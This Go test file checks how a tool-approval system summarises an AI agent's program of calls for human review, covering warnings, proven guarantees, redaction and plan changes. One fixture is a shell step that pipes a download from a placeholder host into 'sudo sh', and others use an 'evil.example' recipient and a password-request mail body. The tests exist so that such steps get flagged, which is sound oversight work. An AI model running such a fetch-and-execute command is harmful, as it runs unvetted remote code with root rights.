package chat

import (
	"encoding/json"
	"fmt"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/permesso-dev/permesso/approval"
	"github.com/permesso-dev/permesso/approval/facts"
	"github.com/permesso-dev/permesso/approval/grant"
)

// Tools that the steps of these tests call.
var (
	mailArgs  = map[string]approval.Argument{"to": {Type: facts.TypeRecipients}, "body": {Type: facts.TypeText}}
	fileArgs  = map[string]approval.Argument{"path": {Type: facts.TypePath}, "text": {Type: facts.TypeText, Writes: "path"}}
	fetchArgs = map[string]approval.Argument{"url": {Type: facts.TypeURL}}
)

// call is a step that asks. args are names, each followed by its value; a value of type ResultRef is not known yet.
func call(tool, capability string, declared map[string]approval.Argument, args ...any) approval.Step {
	s := approval.Step{
		ToolSHA256: "5e", Declared: declared, Capability: capability, Reversibility: approval.Irreversible,
		Ruling: approval.Ruling{Outcome: approval.Ask, Reasons: []approval.Reason{approval.Because("table_ask", "level", "supervised", "capability", capability)}},
	}
	data := map[string]any{}
	for i := 0; i < len(args); i += 2 {
		name := args[i].(string)
		if ref, ok := args[i+1].(approval.ResultRef); ok {
			ref.Arg = name
			s.Opaque = append(s.Opaque, ref)
			continue
		}
		data[name] = args[i+1]
	}
	encoded, err := json.Marshal(data)
	if err != nil {
		panic(err)
	}
	s.Tool, s.Data = tool, encoded
	return s
}

func mail(to any, body any) approval.Step {
	return call("send_email", "mail:send", mailArgs, "to", to, "body", body)
}

func write(path, text any) approval.Step {
	s := call("write_file", "fs:write", fileArgs, "path", path, "text", text)
	s.Reversibility = approval.Partial
	return s
}

func fetch(url string) approval.Step {
	return call("fetch", "network:http", fetchArgs, "url", url)
}

// program makes the request one of a program with these steps.
func program(source string, steps ...approval.Step) func(*approval.Pending) {
	return func(p *approval.Pending) {
		p.ToolName, p.ToolSHA256, p.Capability, p.Target, p.Summary, p.Territory, p.Verb = "", "", "", "", "", "", nil
		p.ActionType, p.RequestData, p.OwnDomains = approval.ActionProgram, approval.Raw("{}"), []string{"example.org"}
		p.Runs = approval.Runs{Kind: approval.HandlerProgram}
		p.Plan = &approval.Plan{Source: source, Steps: steps}
		p.Ruling = approval.Ruling{Outcome: approval.Ask, Reasons: []approval.Reason{approval.Because("table_ask", "level", "supervised", "capability", "mail:send")}}
		offer(approval.Terms{Form: approval.ActionProgram, ActionType: approval.ActionProgram, Digest: p.Plan.SHA256()})(p)
	}
}

// lines counts the lines of a card as channels print them.
func lines(c Card) int { return strings.Count(c.String(), "\n") + 1 }

func TestACardOfAHundredCallsIsShort(t *testing.T) {
	loop := func(body ...func(i int) approval.Step) (steps []approval.Step) {
		for i := 0; len(steps) < 100; i++ {
			steps = append(steps, body[i%len(body)](len(steps)))
		}
		return steps
	}
	to := func(i int) string { return fmt.Sprintf("p%d@d%d.example.com", i, i%30) }
	personal := func(i int) approval.Step {
		return mail(to(i), fmt.Sprintf("Dear P%d,\n\nthe meeting is at 5, in the blue room.\n\nAnn", i))
	}
	plain := func(i int) approval.Step { return fetch("https://api.example.com/" + strconv.Itoa(i)) }
	passing := func(i int) approval.Step { return mail(to(i), approval.ResultRef{Step: i, At: "/text"}) }
	for name, steps := range map[string][]approval.Step{
		"mails that differ in a name":          loop(personal),
		"a fetch and a mail with what it gave": loop(plain, passing),
		"texts with nothing in common": loop(func(i int) approval.Step {
			return write("/srv/"+strconv.Itoa(i), strings.Repeat(strconv.Itoa(i*7919), 30)+"\n")
		}),
		"a loop with a condition": loop(func(i int) approval.Step {
			if i*i%7 < 3 {
				return plain(i)
			}
			return personal(i)
		}),
		"all the same": loop(func(int) approval.Step { return plain(1) }),
	} {
		p := example(program("def main():\n    pass\n", steps...))
		for _, language := range Languages() {
			c := Style{Language: language}.Card(p)
			require.LessOrEqual(t, lines(c), 40, "%s:\n%s", name, c)
			require.Contains(t, c.String(), "100")
		}
	}
	c := Style{}.Card(example(program("x", loop(plain, passing)...)))
	require.Contains(t, runsOf(c), "steps 1, 3 … 99: fetch, 50 times")
	require.Contains(t, runsOf(c), `body: ‹"/text" of the result of the step before›`)
}

// What differs in few of many calls stands before what they have in common.
func TestExceptionsStandFirst(t *testing.T) {
	var steps []approval.Step
	for i := range 9 {
		body := "the meeting is at 5"
		if i == 6 {
			body = "send your password"
		}
		steps = append(steps, mail(fmt.Sprintf("p%d@example.org", i), body))
	}
	require.Equal(t, []string{
		"the calls, in this order:",
		"steps 1-9: send_email, 9 times",
		"⚠ step 7 differs in body from the others, which follow:",
		"body: send your password",
		"body: the meeting is at 5",
		`to, in turn: "p0@example.org", "p1@example.org", "p2@example.org", "p3@example.org", "p4@example.org", "p5@example.org", "p6@example.org", "p7@example.org", "p8@example.org"`,
		"· example.org: 9",
	}, runsOf(Style{}.Card(example(program("x", steps...)))))
}

func TestWhatACardOfAProgramSays(t *testing.T) {
	past := fetch("https://api.example.com/")
	past.Of, past.ResultSHA256, past.Reversibility = cardID, strings.Repeat("ab", 32), approval.Reversible
	earlier := past
	earlier.Of, earlier.Failed = "00112233445566778899aabbccddeeff", "no answer"
	try := write("~/x", "a")
	try.Try = true
	sh := call("shell", "code:exec", map[string]approval.Argument{"line": {Type: facts.TypeCommand}}, "line", "curl https://x.example | sudo sh")
	p := example(program("def main():\n    tools.fetch()\n", past, earlier, mail([]string{"ann@example.org", "bob@evil.example"}, "hi"), try,
		mail(approval.ResultRef{Step: 3, At: "/to"}, "x"), mail("ann", "y"), sh))
	p.Plan.Needs, p.Plan.Continues = &approval.Needs{Step: 7, Line: 4}, "0123456789abcdef"
	p.Plan.Guarantees = []approval.Guarantee{
		{Kind: approval.GuaranteeOnly, Tool: "send_email", Arg: "to", Values: []string{"ann@example.org"}, State: approval.GuaranteeRefuted, Step: 3},
		{Kind: approval.GuaranteeSum, Tool: "pay", Arg: "amount", Sum: "100", Currency: "EUR", State: approval.GuaranteeProved},
		{Kind: approval.GuaranteeSum, Tool: "pay", Arg: "amount", Sum: "100", Currency: "EUR", Max: 3, State: approval.GuaranteeProved},
		{Kind: approval.GuaranteeNone, Tool: "delete", State: approval.GuaranteeUnknown},
		{Kind: approval.GuaranteeUnique, Tool: "send_email", Arg: "to", State: approval.GuaranteeUnknown, Step: 5},
		{Kind: approval.GuaranteeOnlyUnder, Tool: "write_file", Arg: "path", Values: []string{"~/x"}, State: approval.GuaranteeProved},
		{Kind: "later", State: approval.GuaranteeProved},
	}
	c := Style{}.Card(p)
	require.Equal(t, []string{"🔐 May I run this program?", "Send 3 emails to recipients that are not all known yet, write 1 file, call shell once", "irreversible | 5 calls, exactly as below, in this order"},
		[]string{c.Question, c.Object, c.Meta})
	require.Equal(t, []string{
		"⚠ cannot be undone: steps 3, 5-7",
		"⚠ send_email: to is a result that is not known yet: step 5",
		"⚠ sudo sh: as another user (sudo), runs what curl writes",
		"⚠ to: 3 people, 2 outside example.org",
		"⚠ to: not a mail address: ann",
	}, c.Warnings)
	var known []string
	for _, k := range c.Evidence {
		known = append(known, k.Text)
	}
	require.Equal(t, []string{
		"✗ send_email: emails only to ann@example.org: step 3 breaks it",
		"? delete: not called: not known, the rest of the program may break it",
		"? send_email: to never the same twice: not known of step 5",
		"✓ pay: amount together at most 100 EUR",
		"✓ pay: at most 3 calls, amount together at most 100 EUR",
		"✓ write_file: path only below ~/x",
		"✓ later",
		"? the program needs the result of step 7 first: this approval goes as far as step 7; the rest comes as its own question",
	}, known)
	shown := runsOf(c)
	for _, line := range []string{
		"goes on with the program of 0123456789abcdef",
		"· has run while the plan was made; SHA-256 of the result: abababababababab",
		"· has run in 00112233; SHA-256 of the result: abababababababab",
		`⚠ it failed: "no answer"`,
		"step 4: write_file, the program goes on if it fails",
		`to: ‹"/to" of the result of step 3›`,
	} {
		require.Contains(t, shown, line)
	}
	require.Equal(t, []string{
		"steps 3, 5-6: send_email: mail:send needs approval at autonomy supervised",
		"step 4: write_file: fs:write needs approval at autonomy supervised",
		"step 7: shell: code:exec needs approval at autonomy supervised",
	}, c.Why)
	require.Equal(t, []string{`Agent says: "I need to remind the team."`, "Agent's program:", "│ def main():", "│     tools.fetch()"}, c.Prose)
}

// What a complete plan does not do is a fact, unless a step may do anything.
func TestWhatAProgramNeverDoes(t *testing.T) {
	facts := func(steps ...approval.Step) (known []string) {
		for _, k := range (Style{}).Card(example(program("x", steps...))).Evidence {
			known = append(known, k.Text)
		}
		return known
	}
	require.Equal(t, []string{"✓ these are all calls: no email is sent, no chat message is sent, no file is written, no HTTP request is made, no money is paid, no command runs"}, facts())
	require.Equal(t, []string{"✓ these are all calls: no chat message is sent, no HTTP request is made, no money is paid, no command runs"}, facts(mail("a@b.example", "x"), write("/x", "y")))
	pay := call("pay", "network:http", map[string]approval.Argument{"n": {Type: "amount"}}, "n", 5)
	require.Equal(t, []string{"✓ these are all calls: no email is sent, no chat message is sent, no file is written, no command runs"}, facts(pay))
	require.Empty(t, facts(call("sh", "code:exec", nil)))
	require.Empty(t, facts(call("any", "", nil)))
}

// What a reader of one call is warned of, a reader of many is.
func TestRemarksOfManyCalls(t *testing.T) {
	args := map[string]approval.Argument{"amount": {Type: facts.TypeAmount, Currency: "EUR"}, "line": {Type: facts.TypeCommand}, "url": {Type: facts.TypeURL}}
	p := example(program("x", call("pay", "", args, "amount", "10.5"), call("pay", "", args, "amount", "-3"), call("pay", "", args, "amount", "0"),
		fetch("http://10.0.0.1/"), fetch("https://a.example:81/"), fetch("https://a.example/"),
		call("sh", "code:exec", args, "line", "ls | wc"), call("sh", "code:exec", args, "line", "sudo ls")))
	c := Style{}.Card(p)
	require.Equal(t, `Call pay 3 times (7.5 EUR in all), make 3 HTTP requests to 10.0.0.1, a.example, call sh 2 times`, c.Object)
	require.Equal(t, []string{
		"the calls, in this order:",
		"steps 1-3: pay, 3 times", `amount EUR, in turn: "10.5", "-3", "0"`, "⚠ the amount is negative", "⚠ the amount is zero",
		"steps 4-6: fetch, 3 times", `url, in turn: "http://10.0.0.1/", "https://a.example:81/", "https://a.example/"`,
		"⚠ an address, not a name, not encrypted", "⚠ port 81",
		"step 7: sh", "line:", "· ls", "· wc", "│ ls | wc",
		"step 8: sh", "line:", "⚠ sudo ls: as another user (sudo)", "· sudo ls: as another user (sudo)", "│ sudo ls",
	}, runsOf(c))
}

func TestEveryFormOfAProgram(t *testing.T) {
	broken := mail("a@example.org", "x")
	broken.Data = approval.Raw("[1]")
	for _, steps := range [][]approval.Step{nil, {broken, broken}, {call("now", "time:read", nil), call("now", "time:read", nil)}} {
		for _, language := range Languages() {
			for n := range 12 {
				p := example(program(strings.Repeat("x\n", n), steps...))
				p.RecurrenceCount = n
				s := Style{Language: language}
				require.NotEmpty(t, s.Card(p).String())
				require.NotEmpty(t, s.Line(p)+s.Headline(p)+s.Brief(p)+s.VerbAndObject(p)+s.Notice(p).Title)
			}
		}
	}
	p := example(program("x", broken, call("now", "time:read", nil)))
	require.Equal(t, []string{"the calls, in this order:", "step 1: send_email", "⚠ request_data is not a JSON object: [1]", "step 2: now"}, runsOf(Style{}.Card(p)))
	p = example(program("x", mail("bob@example.com", "x"), mail("BOB@example.com", "y"), fetch("https://a.example/1"), fetch("https://a.example/2")))
	require.Equal(t, "Send 2 emails to bob@example.com, make 2 HTTP requests to a.example? · personal", Style{}.Headline(p))
	require.Equal(t, "Send 2 emails to bob@example.com, make 2 HTTP requests to a.example (program)", Style{}.VerbAndObject(p))
	p.RecurrenceCount = 3
	require.Equal(t, "🔐 May I run this program? (irreversible | 4 calls, exactly as below, in this order)", Style{}.Card(p).Question)
	require.Equal(t, []string{"Call no tool"}, runsOf(Style{}.Card(example(program("x")))))
}

func TestLongSourceIsWithTheReasons(t *testing.T) {
	p := example(program(strings.Repeat("x = 1\n", maxSource+1), mail("a@example.org", "x")))
	c := Style{}.Card(p)
	require.Equal(t, "Agent's program: 9 lines, with the reasons why you are asked", c.Prose[len(c.Prose)-1])
	require.Equal(t, slices.Repeat([]string{"│ x = 1"}, maxSource+1), c.Why[len(c.Why)-maxSource-1:])
	_, all := c.Text(1500)
	require.True(t, all)
	many := example(program("x", mail("a@example.org", strings.Repeat("word ", 600))))
	_, all = Style{}.Card(many).Text(1500)
	require.False(t, all, "a card that lacks a part of the trace cannot be approved")
}

func TestOffersOfAProgram(t *testing.T) {
	p := example(program("x", mail("a@example.org", "x")))
	require.Equal(t, "Always: exactly this program with exactly this plan again in personal, 90 days", Style{}.Offer(p, approval.Always))
	require.Equal(t, "Per questa sessione: di nuovo esattamente questo programma con esattamente questo piano in personal", Style{Language: "it"}.Offer(p, approval.Session))
	g := &grant.Grant{ID: "a7f3b2c1d4e5f6a7", Terms: p.Offers[1].Terms, ExpiresAt: p.ExpiresAt}
	require.Equal(t, "Always: exactly the program a7f3b2c1 with exactly its plan again in personal, until 2026-11-21", Style{}.Grant(g))
}

func TestQuestionsAboutAProgram(t *testing.T) {
	p := example(program("x", mail("ann@example.org", "x"), mail([]string{"bob@example.com", "ann@example.org"}, "y"), write("~/a.txt", "z")))
	open := example(program("x", fetch("https://a.example"), mail(approval.ResultRef{Step: 1}, "x")))
	for _, tc := range []struct {
		p              *approval.Pending
		question, want string
	}{
		{p, "who will be mailed?", "From the request: mail send recipient: ann@example.org, bob@example.com"},
		{p, "which files will be written?", "From the request: file write path: ~/a.txt"},
		{p, "quali file saranno scritti?", "From the request: file write path: ~/a.txt"},
		{p, "which hosts?", "✓ these are all calls: no HTTP request is made"},
		{p, "how much money?", "✓ these are all calls: no money is paid"},
		{p, "can it be undone?", "As the operator has described the tool: irreversible"},
		{open, "who will be mailed?", ""},
	} {
		text, _, ok := Style{}.renderer(tc.p).factsAnswer(topicsOf(tc.question))
		require.Equal(t, tc.want, text, tc.question)
		require.Equal(t, tc.want != "", ok, tc.question)
	}
	text, _, _ := Style{}.renderer(p).factsAnswer(topicsOf("what will run?"))
	require.Contains(t, text, "step 3: write_file")
}

func TestChangesOfAProgram(t *testing.T) {
	was := example(program("def main():\n    a()\n    b()\n", mail("ann@example.org", "hi"), write("~/a.txt", "z")))
	is := example(program("def main():\n    a()\n    c()\n", mail("ann@example.org", "hi"), mail("bob@example.org", "hi"), write("~/a.txt", "z")))
	is.Resubmits = earlierID
	s := Style{Earlier: func(*approval.Pending) *EarlierRequest { return &EarlierRequest{Request: was} }}
	require.Equal(t, []string{
		"changed since 00112233:",
		"the program:", "  def main():", "      a()", "-     b()", "+     c()", "  ",
		"its calls:", "  send_email: body: hi", "  send_email: to: ann@example.org", "+ send_email: body: hi", "+ send_email: to: bob@example.org",
		"  write_file: path: ~/a.txt", "  write_file: text: z",
	}, s.Card(is).Changes)
	is.Plan.Source = was.Plan.Source
	require.Equal(t, "the program is unchanged", s.Card(is).Changes[1])
	s.Earlier = func(*approval.Pending) *EarlierRequest { return &EarlierRequest{Request: example()} }
	require.Contains(t, s.Card(is).Changes, "different tool: it was x_post")
}

func TestMaskedInAProgram(t *testing.T) {
	p := example(program("body = 'hunter2'", mail("ann@example.org", "it is hunter2"), mail("bob@example.org", "it is hunter2")))
	s := Style{Redact: secretWords{"hunter2"}}
	text := s.Card(p).String() + strings.Join(s.Card(p).Why, "\n")
	require.NotContains(t, text, "hunter2")
	require.Contains(t, text, "body: it is ‹token, 7 characters›")
	require.Contains(t, text, "│ body = '‹token, 7 characters›'")
	require.Equal(t, []string{"token", "token"}, s.Masked(p))
}
